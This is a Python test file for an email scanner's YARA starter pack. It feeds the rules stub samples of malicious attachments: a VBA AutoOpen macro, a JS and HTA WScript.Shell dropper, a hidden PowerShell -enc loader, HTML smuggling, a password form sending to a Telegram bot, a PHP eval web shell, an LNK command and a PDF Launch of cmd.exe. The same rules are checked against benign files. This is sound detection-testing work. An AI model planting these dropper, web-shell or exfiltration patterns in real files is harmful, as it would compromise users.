"""The starter pack: each rule on one file that it must see, and on innocent ones that it must not."""

import base64
import time

import pytest

from sekisho.inspections.yara_rules import MALWARE, NOTE, STRONG, SUSPICIOUS, Pack, PackBroken, YaraRules, compile_packs, shipped_packs
from sekisho.mime.limits import DEFAULT_LIMITS
from sekisho.mime.unpack import unpack

LNK = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F"
ONENOTE = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3"
EMBEDDED = bytes.fromhex("E716E3BD65261145A4C48D4D0B7A9EAC")
SHELL = "WScript" + ".Shell"

# rule: (file name, octets); "" is the text that is read. In pieces, so that scanners leave this file alone.
MUST = {
    "vba_dropper": ("m.bas", f'Attribute VB_Name = "M"\r\nSub AutoOpen()\r\nSet s = CreateObject("{SHELL}")\r\nEnd Sub'.encode()),
    "script_dropper": ("a.js", f'var x=new ActiveXObject("MSXML2.XMLHTTP");var s=new ActiveXObject("{SHELL}");s.Run(p);'.encode()),
    "hta_application": ("a.hta", f'<html><hta:application id=x><script>new ActiveXObject("{SHELL}").Run("calc")</script>'.encode()),
    "powershell_loader": ("a.bat", b"@echo off\r\npowershell -w hidden -enc " + base64.b64encode(b"x" * 60)),
    "html_smuggling": ("a.html", b"<html><script>var b=new Blob([atob(d)]);a.href=URL.createObjectURL(b);a.download='x.zip';a.click()</script>"),
    "svg_with_script": ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>location.href=atob("aHR0cA==")</script></svg>'),
    "form_sends_to_chat": ("a.html", b"<form><input type='password'></form><script>fetch('https://api.telegram.org/bot1234567:AA/x')</script>"),
    "php_web_shell": ("a.php", b"<?php @ev" + b"al($_POST['x']); ?>"),
    "rtf_equation_object": ("a.doc", rb"{\rtf1{\object\objupdate{\*\objdata 0105000002ce020000000000c000000000000046}}}"),
    "shortcut_with_command": ("a.lnk", LNK + bytes(60) + "powershell.exe -w 1".encode("utf-16-le")),
    "onenote_with_script": ("a.one", ONENOTE + bytes(40) + EMBEDDED + bytes(20) + b'<script>CreateObject("x")</script>'),
    "office_add_in_program": ("a.xll", b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(20) + b"xlAutoOpen\0"),
    "pdf_starts_program": ("a.pdf", b"%PDF-1.4\n1 0 obj << /S /Launch /Win << /F (cmd.exe) >> >> endobj\n"),
}
INNOCENT = (
    ("", b'Has anybody seen how script droppers use CreateObject("WScript.Shell") with ADODB.Stream? powershell -enc is the usual way.\r\n'),
    ("", b"<html><script>track()</script><body>Newsletter</body></html>"),
    ("m.bas", b'Attribute VB_Name = "M"\r\nSub Totals()\r\nRange("A1").Value = 1\r\nEnd Sub'),
    ("a.js", b"export function add(a, b) { return a + b; }"),
    ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'),
    ("a.html", b"<html><form action='https://shop.example.test/login'><input type='password'></form></html>"),
    ("a.php", b"<?php echo htmlspecialchars($_GET['q']); ?>"),
    ("a.doc", rb"{\rtf1 hello}"),
    ("a.exe", b"MZ" + bytes(100)),
    ("a.pdf", b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n"),
    ("a.bin", b""),
)


def mail(name, octets):
    if not name:
        return b"Subject: x\r\nContent-Type: text/plain\r\n\r\n" + octets
    head = f'Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: application/octet-stream; name="{name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
    return head.encode() + base64.encodebytes(octets)


def peek(name, octets, packs=None):
    content = unpack(mail(name, octets), DEFAULT_LIMITS, DEFAULT_LIMITS.budget(time.monotonic), one_shot=True)
    return list(YaraRules(shipped_packs() if packs is None else packs).peek(content))


def rules_of(findings):
    return {finding.evidence.excerpt.partition(":")[0].removeprefix("starter/") for finding in findings}


@pytest.mark.parametrize("rule", MUST)
def test_each_rule_of_the_starter_pack_sees_its_file(rule):
    assert rule in rules_of(peek(*MUST[rule]))


def test_every_rule_of_the_starter_pack_has_its_file_and_its_sentences():
    rules = list(compile_packs(shipped_packs()))
    assert {rule.identifier for rule in rules} == set(MUST)
    for rule in rules:
        meta = dict(rule.metadata)
        assert meta["severity"] in {"malware", "strong", "suspicious", "note"}
        assert meta["why"].endswith(".")
        assert meta["why_ja"].endswith("。")


@pytest.mark.parametrize(("name", "octets"), INNOCENT)
def test_innocent_files_match_nothing(name, octets):
    assert peek(name, octets) == []


def test_a_pack_says_how_heavy_a_match_is():
    source = "\n".join(
        f'rule {name} {{ meta: {meta} strings: $a = "needle" condition: $a }}'
        for name, meta in (
            ("a", 'severity = "malware"'),
            ("b", 'severity = "STRONG"'),
            ("c", 'description = "why it matters"'),
            ("d", 'severity = "note"'),
            ("e", "severity = 7"),
        )
    )
    found = {finding.evidence.excerpt: finding.kind for finding in peek("", b"a needle\r\n", [Pack("mine", source)])}
    assert [kind for _, kind in sorted(found.items())] == [MALWARE, STRONG, SUSPICIOUS, NOTE, SUSPICIOUS]
    assert "mine/c: why it matters" in found


def test_globals_tell_the_name_the_types_and_whether_it_is_a_file():
    source = 'rule a { condition: attached and file_name == "a.pdf" and types contains ",pdf," }\nrule b { condition: not attached }'
    assert rules_of(peek("a.pdf", b"%PDF-1.4\n", [Pack("mine", source)])) == {"mine/a"}
    assert rules_of(peek("", b"hello", [Pack("mine", source)])) == {"mine/b"}


def test_globals_of_one_leaf_are_not_those_of_the_next():
    named = Pack("own", 'rule named { meta: severity = "note" condition: attached and file_name == "a.bin" and types contains ",data," }')
    rules = YaraRules((named,))
    for octets, name, matches in ((b"\0\1", "a.bin", 1), (b"\0\1", "b.bin", 0), (b"text", "a.bin", 0), (b"\0\1", "", 0), (b"\0\1", "a.bin", 1)):
        content = unpack(mail(name, octets), DEFAULT_LIMITS, DEFAULT_LIMITS.budget(time.monotonic), one_shot=False)
        assert len(list(rules.peek(content))) == matches, (octets, name)


def test_a_flood_of_matches_is_cut():
    source = "\n".join(f"rule r{number} {{ condition: true }}" for number in range(100))
    assert len(peek("", b"hello", [Pack("mine", source)])) == 20


@pytest.mark.parametrize("source", ["rule {", 'include "x.yar"', 'rule a { strings: $a = "x" condition: $b }'])
def test_a_broken_pack_is_told(source):
    with pytest.raises(PackBroken, match="mine"):
        compile_packs([Pack("mine", source)])
